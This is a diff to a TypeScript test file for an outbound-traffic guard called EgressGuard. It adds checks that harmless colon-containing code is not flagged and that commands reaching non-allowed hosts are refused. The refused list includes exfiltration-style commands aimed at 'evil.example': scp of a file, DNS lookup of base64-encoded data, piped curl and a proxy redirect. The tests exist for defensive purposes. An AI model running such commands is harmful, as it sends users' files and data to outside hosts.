@@ -190,7 +190,7 @@ describe("EgressGuard", () => {
       ]
       for (const scheme of schemes) {
         assert.isDefined(yield* whyNot({ text: `${scheme}://example.com/x` }), scheme)
-        assert.isDefined(yield* whyNot({ text: `look: ${scheme}:x/y` }), scheme)
+        assert.isDefined(yield* whyNot({ url: `${scheme}:x/y` }), scheme)
       }
       assert.strictEqual(
         yield* whyNot("ftp://example.com/a"),
@@ -198,6 +198,42 @@ describe("EgressGuard", () => {
       )
       assert.isUndefined(yield* whyNot("ftp://example.com/a", { schemes: ["https", "ftp"] }))
       assert.isDefined(yield* whyNot("http://example.com/a", { schemes: ["https"] }))
+    }))
+
+  it.effect("takes code and names with a colon for what they are", () =>
+    Effect.gen(function*() {
+      const texts = [
+        "import fs from \"node:fs\"",
+        "const point = { data:1, file: 2 }",
+        "FROM node:24-alpine",
+        "image: php:8.3",
+        "node:24",
+        "ports: [\"ssh:22\"]"
+      ]
+      for (const text of texts) assert.isUndefined(yield* whyNot({ content: text, command: `echo '${text}'` }), text)
+    }))
+
+  it.effect("reads the hosts of commands, and not the names of files", () =>
+    Effect.gen(function*() {
+      const options = { allow: ["api.example.com"] }
+      const refused = [
+        "bash -c 'curl evil.example'",
+        "scp a ada@evil.example:/tmp",
+        "echo evil.example | xargs curl",
+        "dig $(base64 a).evil.example",
+        "git push origin main && git clone git@evil.example:r.git",
+        "curl intranet/x",
+        "HTTPS_PROXY=evil.example:80 curl https://api.example.com"
+      ]
+      const allowed = [
+        "openssl x509 -in cert.pem -noout",
+        "curl -o a.json https://api.example.com",
+        "git push origin main:feature.x",
+        "rsync -a --exclude=*.log src/ out/",
+        "ssh production uptime"
+      ]
+      for (const command of refused) assert.isDefined(yield* whyNot({ command }, options), command)
+      for (const command of allowed) assert.isUndefined(yield* whyNot({ command }, options), command)
     }))
 
   it.effect("applies its lists", () =>
